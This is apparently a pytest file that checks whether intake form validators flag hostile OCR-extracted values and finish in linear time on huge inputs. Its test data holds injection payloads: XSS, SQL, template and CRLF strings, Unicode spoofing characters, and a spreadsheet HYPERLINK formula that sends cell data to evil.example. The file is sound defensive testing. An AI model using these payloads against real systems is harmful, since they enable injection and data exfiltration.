"""The OCR text payloads of section 15 through the reading validators: every hostile value is
flagged (never silently accepted), ordinary names pass unchanged, and no validator takes more
than linear time on a 100,000-character blob (no ReDoS)."""

from __future__ import annotations

import datetime as dt
import time
from collections.abc import Callable

import pytest

from intake.reading.result import Problem
from intake.reading.validate import (
    check_date,
    check_email,
    check_name,
    check_phone,
    check_postcode,
)

TODAY = dt.date(2026, 11, 28)
VALIDATORS: dict[str, Callable] = {
    "email": check_email,
    "phone": check_phone,
    "postcode": check_postcode,
    "name": check_name,
    "date": lambda raw: check_date(raw, TODAY),
}
HOSTILE = [
    ("email", "<script>alert(1)</script>@x.com"),  # 19
    ("email", "javascript:alert(1)"),  # 20
    ("email", "a@b.com\r\nBcc: all@x.com"),  # 29
    ("email", "user@[127.0.0.1]"),  # 30
    ("email", '"a b"@x.com'),  # 30
    ("phone", "+44 (0)7700 900123 ext 5;DROP"),  # 31
    ("phone", "999"),
    ("phone", "00000000000"),
    ("date", "31022012"),  # 32
    ("date", "2099-01-01"),
    ("date", "12312012"),
    ("date", "31/02/2012"),
    ("postcode", "sw1a1aa<img>"),
    ("name", "Robert'); DROP TABLE pupils;--"),  # 23
    ("name", "%"),  # 24
    ("name", ".*"),
    ("name", "\u202enhoj"),  # 25
    ("name", "J\u043ehn Sm\u0456th"),  # 26, Cyrillic o and i
    ("name", "Jo\u200bhn"),  # 27
    ("name", "\ufeffJohn"),
    ("name", "Jo\u00adhn"),
    ("name", "\uff2a\uff4f\uff48\uff4e"),  # fullwidth
    ("name", "{{ 7*7 }}"),  # 33
    ("name", '"><svg onload=alert(document.domain)>'),
    ("name", '<img src="/etc/passwd"/>'),  # 34
    ("name", '=HYPERLINK("https://evil.example/?d="&B2,"Click")'),  # 21
    ("name", "SMITH\r\n2025-01-01 INFO admin exported all"),  # 35
]


@pytest.mark.parametrize(("kind", "raw"), HOSTILE)
def test_hostile_values_are_flagged(kind: str, raw: str) -> None:
    result = VALIDATORS[kind](raw)
    assert result.problem == Problem.INVALID_VALUE, (kind, raw, result)
    assert result.reason


@pytest.mark.parametrize("raw", ["O'Brien", "Smith-Jones", "Mary Ann"])
def test_ordinary_names_pass(raw: str) -> None:
    result = check_name(raw)
    assert not result.problem and result.value == raw.upper()


@pytest.mark.parametrize("kind", sorted(VALIDATORS))
def test_validators_run_in_linear_time(kind: str) -> None:
    blobs = (
        "A" * 100_000,
        "a" * 50_000 + "@" + "a." * 25_000 + "!",
        "1" * 100_000,
        " " * 100_000 + "x",
        "A-" * 50_000 + "!",
        "'" * 100_000,
    )
    for blob in blobs:
        started = time.perf_counter()
        VALIDATORS[kind](blob)
        elapsed = time.perf_counter() - started
        assert elapsed < 0.5, (kind, blob[:10], elapsed)
